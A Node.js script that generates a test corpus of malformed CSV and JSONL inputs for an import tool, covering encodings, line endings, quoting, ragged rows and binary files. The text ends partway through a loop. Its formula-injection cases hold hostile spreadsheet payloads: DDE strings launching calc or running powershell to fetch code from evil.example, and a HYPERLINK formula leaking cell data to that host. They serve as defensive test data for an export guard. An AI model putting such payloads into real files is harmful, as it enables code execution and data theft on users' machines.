#!/usr/bin/env node
// Writes the nasty-input corpus of test/corpus/ (run by test/integration/corpus.test.ts), byte for byte the
// same on every run:
//
//   node test/corpus/make-corpus.mjs
//
// Each case is a file plus <case>.expect.json beside it, in csv/, jsonl/ and rules/. Files too big to commit
// (a 1 MB field, a 10 MB line, 5,000 columns, a rule file of several megabytes) are built at test time by
// big-cases.mjs. Every name in here is invented.
//
// <case>.expect.json:
//   description  what the case is about
//   source       rule-file options for the data source: encoding, delimiter, id, max_rejects (data cases)
//   target       rule-file options for the CSV output: formula_guard (data cases)
//   fields       extra `fields:` entries, as YAML flow text (data cases)
//   env          environment for ${VAR} (rule cases)
//   exit         the documented exit code: 0 ok, 1 thresholds, 2 input or rules, 3 runtime
//   counts       { read, loaded, rejected } (read = loaded + rejected is checked on every case that ran)
//   rejects      { "<line>": "<reject code>" }: every rejected row, by the line its record starts on
//   error        { code, message: [regex, …] } when the run fails (each pattern must match the rendered error)
//   values       { "<line>": { field: value } }: loaded records' canonical values, as imported
//   output       { "<source_id>": { column: value } }: cells of the exported CSV (after normalize)
//   cli          true: also run through the spawned CLI (a sample of cases is, besides these)

import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import iconv from 'iconv-lite';

const ROOT = path.dirname(fileURLToPath(import.meta.url));
const cases = [];

/** A data case: text (written as UTF-8) or bytes. */
function data(group, name, content, expect) {
  cases.push({ group, name, ext: expect.ext ?? (group === 'csv' ? 'csv' : 'jsonl'), content, expect: { ...expect, ext: undefined } });
}
const csv = (name, content, expect) => data('csv', name, content, expect);
const jsonl = (name, content, expect) => data('jsonl', name, content, expect);
function rules(name, content, expect) {
  cases.push({ group: 'rules', name, ext: expect.ext ?? 'yaml', content, expect: { ...expect, ext: undefined } });
}

/** Counts from the rows read and the rejects (line -> code). */
const ok = (read, rejects = {}, extra = {}) => ({ exit: 0, counts: { read, loaded: read - Object.keys(rejects).length, rejected: Object.keys(rejects).length }, rejects, ...extra });
const fails = (exit, code, message, extra = {}) => ({ exit, error: { code, message: [].concat(message) }, ...extra });

const HEAD = 'id,First Name,Last Name,Email,Notes';
const rows = (...lines) => `${[HEAD, ...lines].join('\n')}\n`;
const GOOD = ['1,Ann,Lee,ann@example.com,', '2,Bo,Ng,bo@example.com,', '3,Cy,Roe,cy@example.com,'];

// ------------------------------------------------------------------ CSV: byte order marks and UTF-16
const BOM8 = Buffer.from([0xef, 0xbb, 0xbf]);
const utf16 = (text, endian, bom = true) => {
  const le = Buffer.from(text, 'utf16le');
  const body = endian === 'le' ? le : Buffer.from(le).swap16();
  return bom ? Buffer.concat([Buffer.from(endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), body]) : body;
};
const accented = rows('1,Zoë,Ångström,zoe@example.com,', '2,Jörg,Schäfer,jorg@example.com,');
csv('bom-utf8', Buffer.concat([BOM8, Buffer.from(accented.replace(/\n/g, '\r\n'))]), ok(2, {}, { values: { 2: { first_name: 'Zoë' } }, cli: true, description: 'UTF-8 BOM, CRLF: the BOM is not part of the first header' }));
csv('bom-utf8-semicolon', Buffer.concat([BOM8, Buffer.from(accented.replace(/,/g, ';'))]), ok(2, {}, { values: { 3: { last_name: 'Schäfer' } }, description: 'what German Excel writes: BOM and semicolons' }));
csv('bom-utf8-twice', Buffer.concat([BOM8, BOM8, Buffer.from(accented)]), ok(2, {}, { values: { 2: { first_name: 'Zoë' } }, description: 'a BOM written twice (a tool that added its own): both are dropped from the header' }));
csv('bom-utf8-declared-latin1', Buffer.concat([BOM8, Buffer.from(accented)]), ok(2, {}, { source: { encoding: 'windows-1252' }, values: { 2: { first_name: 'Zoë' } }, description: 'a UTF-8 BOM wins over a declared legacy encoding' }));
csv('bom-utf16le', utf16(accented, 'le'), ok(2, {}, { values: { 2: { first_name: 'Zoë' } }, cli: true, description: 'UTF-16 LE with its BOM' }));
csv('bom-utf16be', utf16(accented, 'be'), ok(2, {}, { values: { 3: { first_name: 'Jörg' } }, description: 'UTF-16 BE with its BOM' }));
csv('utf16le-no-bom', utf16(accented, 'le', false), ok(2, {}, { values: { 2: { first_name: 'Zoë' } }, description: 'UTF-16 LE without a BOM: recognised by its NUL bytes' }));
csv('utf16be-no-bom', utf16(accented, 'be', false), ok(2, {}, { values: { 2: { first_name: 'Zoë' } }, description: 'UTF-16 BE without a BOM' }));
csv('utf16le-declared', utf16(accented, 'le', false), ok(2, {}, { source: { encoding: 'utf-16le' }, values: { 2: { last_name: 'Ångström' } }, description: 'UTF-16 LE declared in the rule file' }));
csv('utf16le-crlf-cjk', utf16(rows('1,伟,王,wei@example.cn,备注').replace(/\n/g, '\r\n'), 'le'), ok(1, {}, { values: { 2: { first_name: '伟', last_name: '王' } }, description: 'UTF-16 LE, CRLF, CJK text' }));
csv('utf16le-emoji', utf16(rows('1,Ann 😀,Lee,ann@example.com,🎉 party'), 'le'), ok(1, {}, { values: { 2: { first_name: 'Ann 😀' } }, description: 'UTF-16 LE with surrogate pairs (emoji)' }));
csv('utf16le-odd-length', Buffer.concat([utf16(rows(...GOOD), 'le'), Buffer.from([0x41])]), ok(4, { 5: 'INVALID_ENCODING' }, { description: 'UTF-16 LE cut one byte short: the dangling byte is a last row that cannot be decoded' }));
csv('utf16le-lone-surrogate', Buffer.concat([utf16(`${HEAD}\n1,Ann,Lee,ann@example.com,x`, 'le'), Buffer.from([0x00, 0xd8]), utf16('\n2,Bo,Ng,bo@example.com,\n', 'le', false)]), ok(2, { 2: 'INVALID_ENCODING' }, { description: 'UTF-16 LE with a lone high surrogate in a cell' }));
csv('bom-only-utf8', BOM8, ok(0, {}, { description: 'a file that holds only a UTF-8 BOM' }));
csv('bom-only-utf16le', Buffer.from([0xff, 0xfe]), ok(0, {}, { description: 'a file that holds only a UTF-16 LE BOM' }));
csv('bom-then-blank-lines', Buffer.concat([BOM8, Buffer.from('\r\n\r\n')]), ok(0, {}, { description: 'a BOM and blank lines, nothing else' }));

// ------------------------------------------------------------------ CSV: invalid bytes in each supported encoding
const withBytes = (encoding, before, bytes, after) => Buffer.concat([iconv.encode(before, encoding), Buffer.from(bytes), iconv.encode(after, encoding)]);
csv('invalid-utf8-lone-continuation', withBytes('utf-8', `${HEAD}\n1,Ann,Lee,ann@example.com,`, [0x80], '\n2,Bo,Ng,bo@example.com,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { cli: true, description: 'UTF-8 with a lone continuation byte' }));
csv('invalid-utf8-overlong', withBytes('utf-8', `${HEAD}\n1,Ann,Lee,ann@example.com,`, [0xc0, 0xaf], '\n2,Bo,Ng,bo@example.com,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { description: 'UTF-8 with an overlong encoding of "/"' }));
csv('invalid-utf8-surrogate', withBytes('utf-8', `${HEAD}\n1,Ann,Lee,ann@example.com,`, [0xed, 0xa0, 0x80], '\n2,Bo,Ng,bo@example.com,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { description: 'UTF-8 encoding a surrogate (CESU-8)' }));
csv('invalid-utf8-truncated-at-eof', withBytes('utf-8', `${HEAD}\n1,Ann,Lee,ann@example.com,\n2,Bo,Ng,bo@example.com,`, [0xe2, 0x82], ''), ok(2, { 3: 'INVALID_ENCODING' }, { description: 'a multi-byte UTF-8 character cut off by the end of the file' }));
csv('invalid-utf8-latin1-undeclared', iconv.encode(rows('1,Jürgen,Groß,jg@example.de,', '2,Ann,Lee,ann@example.com,'), 'latin1'), ok(2, { 2: 'INVALID_ENCODING' }, { description: 'a Latin-1 file read as UTF-8 (not declared): the row with umlauts is rejected with a hint' }));
csv('invalid-utf8-in-header', withBytes('utf-8', 'id,First Name,Last Name,Email,No', [0xe9], `tes\n${GOOD.join('\n')}\n`), fails(2, 'BAD_HEADER', ['header', 'not valid utf-8']), );
csv('invalid-windows-1252', withBytes('windows-1252', `${HEAD}\n1,Jürgen,Groß,jg@example.de,€ 5`, [0x81], '\n2,Zoë,Smart,zs@example.com,“quoted”\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'windows-1252' }, values: { 3: { first_name: 'Zoë' } }, description: 'windows-1252 with 0x81, a byte it does not define' }));
csv('valid-windows-1252', iconv.encode(rows('1,Jürgen,Groß,jg@example.de,€ 5 – “ok”'), 'windows-1252'), ok(1, {}, { source: { encoding: 'windows-1252' }, values: { 2: { notes: '€ 5 – “ok”' } }, description: 'windows-1252 with € and smart quotes' }));
csv('valid-latin1-every-byte', iconv.encode(rows(`1,Ann,Lee,ann@example.com,${Array.from({ length: 96 }, (_, i) => String.fromCharCode(0xa0 + i)).join('')}`), 'latin1'), ok(1, {}, { source: { encoding: 'latin1' }, description: 'Latin-1 defines every byte: its upper half reads as text, nothing is rejected' }));
csv('invalid-gb18030', withBytes('gb18030', `${HEAD}\n1,伟,王,wei@example.cn,`, [0x81, 0x20], '\n2,芳,李,fang@example.cn,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'gb18030' }, values: { 3: { first_name: '芳' } }, description: 'GB18030 with a lead byte followed by a space' }));
csv('valid-gb18030', iconv.encode(rows('1,伟,王,wei@example.cn,北京市朝阳区'), 'gb18030'), ok(1, {}, { source: { encoding: 'gb18030' }, values: { 2: { notes: '北京市朝阳区' } }, description: 'GB18030' }));
csv('invalid-big5', withBytes('big5', `${HEAD}\n1,偉,王,wei@example.tw,`, [0x81, 0x20], '\n2,芳,李,fang@example.tw,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'big5' }, description: 'Big5 with an undefined lead byte' }));
csv('valid-big5', iconv.encode(rows('1,偉,王,wei@example.tw,臺北市'), 'big5'), ok(1, {}, { source: { encoding: 'big5' }, values: { 2: { notes: '臺北市' } }, description: 'Big5' }));
csv('invalid-shift-jis', withBytes('shift_jis', `${HEAD}\n1,太郎,山田,taro@example.jp,`, [0x85, 0x40], '\n2,花子,鈴木,hanako@example.jp,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'shift_jis' }, description: 'Shift_JIS with an unassigned double-byte code' }));
csv('valid-shift-jis', iconv.encode(rows('1,太郎,山田,taro@example.jp,東京都'), 'shift_jis'), ok(1, {}, { source: { encoding: 'shift_jis' }, values: { 2: { first_name: '太郎' } }, description: 'Shift_JIS' }));
csv('invalid-euc-kr', withBytes('euc-kr', `${HEAD}\n1,민준,김,mj@example.kr,`, [0xa1, 0x20], '\n2,서연,이,sy@example.kr,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'euc-kr' }, description: 'EUC-KR with a broken pair' }));
csv('invalid-windows-1251', withBytes('windows-1251', `${HEAD}\n1,Иван,Петров,ivan@example.ru,`, [0x98], '\n2,Ольга,Смирнова,olga@example.ru,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'windows-1251' }, values: { 3: { first_name: 'Ольга' } }, description: 'windows-1251 with 0x98, which it does not define' }));
csv('invalid-iso-8859-7', withBytes('iso-8859-7', `${HEAD}\n1,Νίκος,Παππάς,nikos@example.gr,`, [0xd2], '\n2,Ελένη,Γεωργίου,eleni@example.gr,\n'), ok(2, { 2: 'INVALID_ENCODING' }, { source: { encoding: 'iso-8859-7' }, description: 'ISO-8859-7 (Greek) with an unassigned byte' }));
csv('invalid-utf16le-declared-odd', Buffer.concat([utf16(rows(...GOOD), 'le', false), Buffer.from([0x41])]), ok(4, { 5: 'INVALID_ENCODING' }, { source: { encoding: 'utf-16le' }, description: 'declared UTF-16 LE, odd number of bytes' }));
csv('unknown-encoding', rows(...GOOD), fails(2, 'RULES_INVALID', ['source.encoding', 'unknown encoding "utf-9"'], { source: { encoding: 'utf-9' }, description: 'an encoding nobody knows is a rule-file error, not a crash' }));
csv('encoding-alias-cp1252', iconv.encode(rows('1,Jürgen,Groß,jg@example.de,'), 'windows-1252'), ok(1, {}, { source: { encoding: 'cp1252' }, values: { 2: { last_name: 'Groß' } }, description: 'an alias of windows-1252' }));
csv('encoding-upper-case', iconv.encode(rows('1,Jürgen,Groß,jg@example.de,'), 'windows-1252'), ok(1, {}, { source: { encoding: 'WINDOWS-1252' }, values: { 2: { last_name: 'Groß' } }, description: 'an encoding name in capitals' }));

// ------------------------------------------------------------------ CSV: line endings
csv('eol-lf', rows(...GOOD), ok(3, {}, { description: 'LF' }));
csv('eol-crlf', rows(...GOOD).replace(/\n/g, '\r\n'), ok(3, {}, { values: { 4: { email: 'cy@example.com' } }, description: 'CRLF: no value keeps a trailing CR' }));
csv('eol-cr-only', rows(...GOOD).replace(/\n/g, '\r'), ok(3, {}, { values: { 3: { first_name: 'Bo' } }, cli: true, description: 'old Mac CR-only line ends' }));
csv('eol-mixed', `${HEAD}\r\n${GOOD[0]}\n${GOOD[1]}\r${GOOD[2]}\r\n`, ok(3, {}, { values: { 4: { last_name: 'Roe' } }, description: 'CRLF, LF and CR in one file' }));
csv('eol-none-at-end', rows(...GOOD).slice(0, -1), ok(3, {}, { values: { 4: { email: 'cy@example.com' } }, description: 'no line break after the last row' }));
csv('eol-lf-cr', `${HEAD}\n\r${GOOD[0]}\n\r${GOOD[1]}\n`, ok(2, {}, { values: { 3: { first_name: 'Ann' } }, description: 'LF CR (reversed) line ends: the CR is a blank line' }));
csv('eol-blank-lines-between', `${HEAD}\n\n${GOOD[0]}\n\n\n${GOOD[1]}\n\n`, ok(2, {}, { values: { 6: { first_name: 'Bo' } }, description: 'blank lines are skipped, line numbers stay true' }));
csv('eol-trailing-blank-lines', `${rows(...GOOD)}\n\n\r\n`, ok(3, {}, { description: 'blank lines at the end' }));
csv('eol-crlf-inside-quotes', `${HEAD}\r\n1,Ann,Lee,ann@example.com,"line one\r\nline two"\r\n2,Bo,Ng,bo@example.com,\r\n`, ok(2, {}, { values: { 2: { notes: 'line one\r\nline two' }, 4: { first_name: 'Bo' } }, description: 'a CRLF inside a quoted cell is data' }));
csv('eol-cr-inside-quotes', `${HEAD}\r1,Ann,Lee,ann@example.com,"a\rb"\r2,Bo,Ng,bo@example.com,\r`, ok(2, {}, { values: { 2: { notes: 'a\rb' }, 4: { first_name: 'Bo' } }, description: 'CR-only file with a CR inside a quoted cell' }));
csv('eol-only-newlines', '\n\n\r\n\r', ok(0, {}, { description: 'a file of line breaks only' }));

// ------------------------------------------------------------------ CSV: quotes
csv('quote-unclosed-at-eof', `${rows(...GOOD.slice(0, 2))}3,Cy,Roe,cy@example.com,"never closed\n`, ok(3, { 4: 'UNCLOSED_QUOTE' }, { cli: true, description: 'an unclosed quote on the last row' }));
csv('quote-unclosed-at-eof-no-newline', `${rows(...GOOD.slice(0, 2))}3,Cy,Roe,cy@example.com,"never closed`, ok(3, { 4: 'UNCLOSED_QUOTE' }, { description: 'an unclosed quote at the very end of the file' }));
csv('quote-unclosed-mid-file', rows(GOOD[0], '2,"Bo,Ng,bo@example.com,', GOOD[2], '4,Di,Fox,di@example.com,'), ok(4, { 3: 'UNCLOSED_QUOTE' }, { values: { 4: { first_name: 'Cy' }, 5: { first_name: 'Di' } }, description: 'a quote left open mid-file rejects its line only' }));
csv('quote-unclosed-two', rows('1,"Ann,Lee,ann@example.com,', GOOD[1], '3,Cy,"Roe,cy@example.com,', '4,Di,Fox,di@example.com,'), ok(4, { 2: 'UNCLOSED_QUOTE', 4: 'UNCLOSED_QUOTE' }, { description: 'two unclosed quotes' }));
csv('quote-in-unquoted-field', rows(GOOD[0], '2,Bo "Bobby",Ng,bo@example.com,', GOOD[2]), ok(3, { 3: 'INVALID_QUOTE' }, { description: 'a quote inside an unquoted field' }));
csv('quote-after-closing', rows(GOOD[0], '2,"Bo"by,Ng,bo@example.com,', GOOD[2]), ok(3, { 3: 'INVALID_CLOSING_QUOTE' }, { description: 'text after a closing quote' }));
csv('quote-space-before-quote', rows(GOOD[0], '2, "Bo",Ng,bo@example.com,', GOOD[2]), ok(3, { 3: 'INVALID_QUOTE' }, { description: 'a space before an opening quote makes the quote part of an unquoted field' }));
csv('quote-doubled', rows('1,"Ann ""Annie""",Lee,ann@example.com,"say ""hi"""'), ok(1, {}, { values: { 2: { first_name: 'Ann "Annie"', notes: 'say "hi"' } }, description: 'doubled quotes inside quoted cells' }));
csv('quote-only-quotes', rows('1,"""",Lee,ann@example.com,""""""'), ok(1, {}, { values: { 2: { first_name: '"', notes: '""' } }, description: 'cells that are only quote characters' }));
csv('quote-empty-quoted', rows('1,"",Lee,ann@example.com,""'), ok(1, {}, { values: { 2: { first_name: '', notes: '' } }, description: 'empty quoted cells' }));
csv('quote-multiline-cell', rows('1,Ann,Lee,ann@example.com,"first\nsecond\nthird"', GOOD[1]), ok(2, {}, { values: { 2: { notes: 'first\nsecond\nthird' }, 5: { first_name: 'Bo' } }, description: 'a real multi-line cell: the next row starts 3 lines later' }));
csv('quote-delimiters-inside', rows('1,"Lee, Ann",Lee,ann@example.com,"a;b|c\td"'), ok(1, {}, { values: { 2: { first_name: 'Lee, Ann', notes: 'a;b|c\td' } }, description: 'delimiters inside quotes' }));
csv('quote-whole-header', '"id","First Name","Last Name","Email","Notes"\n"1","Ann","Lee","ann@example.com",""\n', ok(1, {}, { values: { 2: { first_name: 'Ann' } }, description: 'every cell quoted, header too' }));
csv('quote-lone-at-eof', `${rows(...GOOD)}"`, ok(4, { 5: 'UNCLOSED_QUOTE' }, { description: 'a lone quote character after the last line' }));
csv('quote-apostrophes', rows("1,Seán,O'Brien,sean@example.ie,it's"), ok(1, {}, { values: { 2: { last_name: "O'Brien" } }, description: 'apostrophes are not quotes' }));
csv('quote-unclosed-header', `id,"First Name,Last Name,Email,Notes\n${GOOD.join('\n')}\n`, fails(2, 'BAD_HEADER', ['header line', 'quote']), );
csv('quote-smart-quotes', rows('1,“Ann”,Lee,ann@example.com,‘x’'), ok(1, {}, { values: { 2: { first_name: '“Ann”' } }, description: 'typographic quotes are ordinary characters' }));

// ------------------------------------------------------------------ CSV: shape
csv('zero-bytes', '', ok(0, {}, { cli: true, description: 'an empty file: nothing read, a note says so' }));
csv('header-only', `${HEAD}\n`, ok(0, {}, { description: 'a header and no rows' }));
csv('header-only-no-newline', HEAD, ok(0, {}, { description: 'a header without a line break' }));
csv('duplicate-headers', 'id,Email,Email,Notes\n1,a@example.com,b@example.com,x\n', ok(1, {}, { values: { 2: { email: 'a@example.com' } }, description: 'two columns called Email: both kept, the first non-empty maps' }));
csv('duplicate-headers-suffix-clash', 'id,Notes,Notes (2),Notes\n1,a,b,c\n', ok(1, {}, { description: 'a duplicate whose renamed form is already a column: every column keeps a unique name' }));
csv('empty-headers', 'id,,First Name,,Email\n1,x,Ann,y,ann@example.com\n', ok(1, {}, { values: { 2: { first_name: 'Ann' } }, description: 'empty header cells are named column_2, column_4' }));
csv('whitespace-headers', 'id,  First Name ,\tEmail\t\n1,Ann,ann@example.com\n', ok(1, {}, { values: { 2: { first_name: 'Ann', email: 'ann@example.com' } }, description: 'headers padded with spaces and tabs still map' }));
csv('all-empty-headers', ',,\na,b,c\n', ok(1, {}, { description: 'no header has a name' }));
csv('trailing-delimiters', `${HEAD},\n${GOOD.map((l) => `${l},`).join('\n')}\n`, ok(3, {}, { values: { 2: { first_name: 'Ann' } }, description: 'a trailing delimiter on every line, header included: one more empty column' }));
csv('trailing-delimiters-rows-only', rows(...GOOD.map((l) => `${l},`)), ok(3, { 2: 'WRONG_CELL_COUNT', 3: 'WRONG_CELL_COUNT', 4: 'WRONG_CELL_COUNT' }, { description: 'a trailing delimiter on the rows but not the header: each row has one cell too many' }));
csv('ragged-short', rows(GOOD[0], '2,Bo,Ng', GOOD[2]), ok(3, { 3: 'WRONG_CELL_COUNT' }, { cli: true, description: 'a row with too few cells' }));
csv('ragged-long', rows(GOOD[0], '2,Bo,Ng,bo@example.com,,extra,more', GOOD[2]), ok(3, { 3: 'WRONG_CELL_COUNT' }, { description: 'a row with too many cells' }));
csv('ragged-many', rows('1', '2,Bo', '3,Cy,Roe', '4,Di,Fox,di@example.com', '5,Ed,Yu,ed@example.com,', '6,Fay,Li,fay@example.com,,'), ok(6, { 2: 'WRONG_CELL_COUNT', 3: 'WRONG_CELL_COUNT', 4: 'WRONG_CELL_COUNT', 5: 'WRONG_CELL_COUNT', 7: 'WRONG_CELL_COUNT' }, { description: 'rows of every length' }));
csv('one-column', 'Email\nann@example.com\nbo@example.com\n', ok(2, {}, { values: { 2: { email: 'ann@example.com' } }, description: 'a single column, no id: the row number is the id' }));
csv('one-column-blank-value', 'Email\nann@example.com\n\nbo@example.com\n', ok(2, {}, { description: 'a single-column file: an empty line is a blank line, not an empty record' }));
csv('duplicate-ids', rows(GOOD[0], '1,Bo,Ng,bo@example.com,', GOOD[2]), ok(3, { 3: 'DUPLICATE_ID' }, { description: 'an id used twice: the second row is rejected, naming the first' }));
csv('missing-id', rows(GOOD[0], ',Bo,Ng,bo@example.com,', '   ,Cy,Roe,cy@example.com,'), ok(3, { 3: 'MISSING_ID', 4: 'MISSING_ID' }, { description: 'empty and blank ids' }));
csv('id-with-spaces', rows(' 1 ,Ann,Lee,ann@example.com,', '1,Bo,Ng,bo@example.com,'), ok(2, { 3: 'DUPLICATE_ID' }, { description: 'ids are trimmed: " 1 " and "1" are one id' }));
csv('required-missing', rows(GOOD[0], '2,Bo,Ng,,', GOOD[2]), ok(3, { 3: 'REQUIRED_MISSING' }, { fields: '{ email: { required: true } }', description: 'a required field left empty' }));
csv('required-whitespace', rows(GOOD[0], '2,Bo,Ng,"   ",', GOOD[2]), ok(3, { 3: 'REQUIRED_MISSING' }, { fields: '{ email: { required: true } }', description: 'a required field that is only spaces' }));
csv('required-column-absent', 'id,First Name\n1,Ann\n', fails(2, 'COLUMNS_MISSING', ['required field email matches no column', 'First Name'], { fields: '{ email: { required: true } }', description: 'a required field no column maps' }));
csv('id-column-absent', rows(...GOOD), fails(2, 'COLUMNS_MISSING', ['id column "Customer Key"'], { source: { id: 'Customer Key' }, description: 'a declared id column that is not there' }));
csv('max-rejects-breached', rows(GOOD[0], '2,Bo', '3,Cy', '4,Di,Fox,di@example.com,'), { exit: 1, counts: { read: 4, loaded: 2, rejected: 2 }, rejects: { 3: 'WRONG_CELL_COUNT', 4: 'WRONG_CELL_COUNT' }, source: { max_rejects: 1 }, cli: true, description: 'more rejects than max_rejects: exit 1, nothing exported' });
csv('max-rejects-percent-ok', rows(GOOD[0], '2,Bo', GOOD[2], '4,Di,Fox,di@example.com,'), ok(4, { 3: 'WRONG_CELL_COUNT' }, { source: { max_rejects: '25%' }, description: 'rejects at the percentage limit pass' }));
csv('many-columns-300', `${['id', ...Array.from({ length: 299 }, (_, i) => `col${i}`)].join(',')}\n${['1', ...Array.from({ length: 299 }, (_, i) => `v${i}`)].join(',')}\n`, ok(1, {}, { description: '300 columns' }));
csv('header-long-name', `id,${'N'.repeat(10000)}\n1,x\n`, ok(1, {}, { description: 'a header of 10,000 characters' }));
csv('header-multiline', 'id,"First\nName",Email\n1,Ann,ann@example.com\n', ok(1, {}, { values: { 3: { email: 'ann@example.com' } }, description: 'a header cell with a line break inside quotes' }));
csv('header-emoji', 'id,📧,🙂\n1,ann@example.com,x\n', ok(1, {}, { description: 'emoji as column names' }));
csv('header-formula', 'id,=cmd|\' /C calc\'!A0,Email\n1,x,ann@example.com\n', ok(1, {}, { description: 'a column name that is a formula' }));
csv('header-cjk', 'id,姓名,电子邮件,电话\n1,王伟,wei@example.cn,13800138000\n', ok(1, {}, { values: { 2: { full_name: '王伟' } }, description: 'Chinese headers map to canonical fields' }));
csv('header-german', 'Kundennummer;Vorname;Nachname;E-Mail\n7;Jürgen;Groß;jg@example.de\n', ok(1, {}, { values: { 2: { first_name: 'Jürgen' } }, description: 'German headers, semicolons' }));
csv('header-case-punctuation', 'ID,FIRST_NAME,last-name,E-MAIL\n1,Ann,Lee,ann@example.com\n', ok(1, {}, { values: { 2: { first_name: 'Ann', last_name: 'Lee', email: 'ann@example.com' } }, description: 'header spellings in any case and punctuation' }));
csv('no-row-matches-header', 'a,b,c\n1,2,3\n', ok(1, {}, { description: 'no column maps to a field: the row is still loaded and kept' }));

// ------------------------------------------------------------------ CSV: NUL bytes, control characters, binary
csv('nul-in-cell', Buffer.from(rows(GOOD[0], '2,Bo\u0000,Ng,bo@example.com,', GOOD[2])), ok(3, { 3: 'NUL_BYTE' }, { cli: true, description: 'a NUL byte inside a cell' }));
csv('nul-line', Buffer.from(`${rows(GOOD[0])}\u0000\u0000\u0000\n${GOOD[1]}\n`), ok(3, { 3: 'NUL_BYTE' }, { description: 'a line of NUL bytes, after a text header' }));
csv('nul-many-rows', Buffer.from(rows(...Array.from({ length: 20 }, (_, i) => `${i + 1},N\u0000,X,x${i}@example.com,`))), ok(20, Object.fromEntries(Array.from({ length: 20 }, (_, i) => [i + 2, 'NUL_BYTE'])), { description: 'a NUL in every row: all rejected, all counted' }));
csv('control-chars', rows('1,Ann\u0001,Lee\u001b[31m,ann@example.com,bell\u0007'), ok(1, {}, { values: { 2: { first_name: 'Ann\u0001' } }, description: 'control characters are data (normalize strips them, import keeps them)' }));
csv('binary-png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0a, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4]), fails(2, 'NOT_TEXT', ['not a text file', 'binary-png.csv']), );
csv('binary-zip', Buffer.concat([Buffer.from('PK\u0003\u0004\u0014\u0000\u0006\u0000\u0008\u0000'), Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 37) % 256))]), fails(2, 'NOT_TEXT', ['not a text file', 'xlsx']), );
csv('binary-random', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)), fails(2, 'NOT_TEXT', ['not a text file']), );
csv('binary-gzip', Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 3]), Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 131) % 256))]), fails(2, 'NOT_TEXT', ['not a text file']), );

// ------------------------------------------------------------------ CSV: Excel's sep= line and delimiters
csv('sep-semicolon', `sep=;\n${rows(...GOOD).replace(/,/g, ';')}`, ok(3, {}, { values: { 3: { first_name: 'Ann' } }, cli: true, description: 'Excel\'s sep=; first line names the delimiter; lines count from it' }));
csv('sep-pipe-crlf', `sep=|\r\n${rows(...GOOD).replace(/,/g, '|').replace(/\n/g, '\r\n')}`, ok(3, {}, { values: { 3: { first_name: 'Ann' } }, description: 'sep=| with CRLF' }));
csv('sep-tab', `sep=\t\n${rows(...GOOD).replace(/,/g, '\t')}`, ok(3, {}, { values: { 4: { first_name: 'Bo' } }, description: 'sep=<tab>' }));
csv('sep-upper-case', `SEP=;\n${rows(...GOOD).replace(/,/g, ';')}`, ok(3, {}, { description: 'SEP=; in capitals' }));
csv('sep-after-bom', Buffer.concat([BOM8, Buffer.from(`sep=;\r\n${rows(...GOOD).replace(/,/g, ';')}`)]), ok(3, {}, { values: { 3: { first_name: 'Ann' } }, description: 'a BOM, then sep=;' }));
csv('sep-only', 'sep=;\n', ok(0, {}, { description: 'only a sep= line' }));
csv('sep-comma-with-semicolons-in-data', `sep=,\n${HEAD}\n1,Ann,Lee,ann@example.com,a;b;c;d;e;f\n`, ok(1, {}, { values: { 3: { notes: 'a;b;c;d;e;f' } }, description: 'sep=, although the data is full of semicolons' }));
csv('delimiter-semicolon-decimal-commas', 'id;First Name;Last Name;Email;Notes\n1;Ann;Lee;ann@example.com;1,5\n2;Bo;Ng;bo@example.com;2,75\n', ok(2, {}, { values: { 2: { notes: '1,5' } }, description: 'semicolons with decimal commas in the data' }));
csv('delimiter-tab', rows(...GOOD).replace(/,/g, '\t'), ok(3, {}, { description: 'tab-separated in a .csv' }));
csv('delimiter-tsv-file', rows(...GOOD).replace(/,/g, '\t'), ok(3, {}, { ext: 'tsv', description: 'a .tsv file' }));
csv('delimiter-pipe', rows(...GOOD).replace(/,/g, '|'), ok(3, {}, { description: 'pipe-separated' }));
csv('delimiter-declared-wrong', rows(...GOOD), ok(3, {}, { source: { delimiter: ';' }, description: 'a comma file declared as semicolons: one wide column per row, nothing lost' }));
csv('delimiter-sniff-quoted-commas', 'id;First Name;Notes\n1;Ann;"a, b, c, d"\n2;Bo;"e, f, g"\n', ok(2, {}, { values: { 2: { notes: 'a, b, c, d' } }, description: 'commas inside quotes do not fool the sniffer' }));

// ------------------------------------------------------------------ CSV: formula injection (the export guards it)
const formulas = {
  'formula-equals': ['=1+1', "'=1+1"],
  'formula-at': ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  'formula-plus-cmd': ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  'formula-minus': ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
  'formula-hyperlink': ['=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
  'formula-dde': ["=cmd|'/C powershell IEX(wget evil.example/x)'!A0", "'=cmd|'/C powershell IEX(wget evil.example/x)'!A0"],
  'formula-tab-first': ['\t=1+1', "'=1+1"],
  'formula-negative-number': ['-42', '-42'],
  'formula-plus-number': ['+3.5', '+3.5'],
  'formula-phone': ['+1 415 555 2671', '+1 415 555 2671'],
  'formula-short-plus': ['+1-1', "'+1-1"],
  'formula-in-middle': ['a=1+1', 'a=1+1'],
};
for (const [name, [value, exported]] of Object.entries(formulas)) {
  const quoted = `"${value.replace(/"/g, '""')}"`;
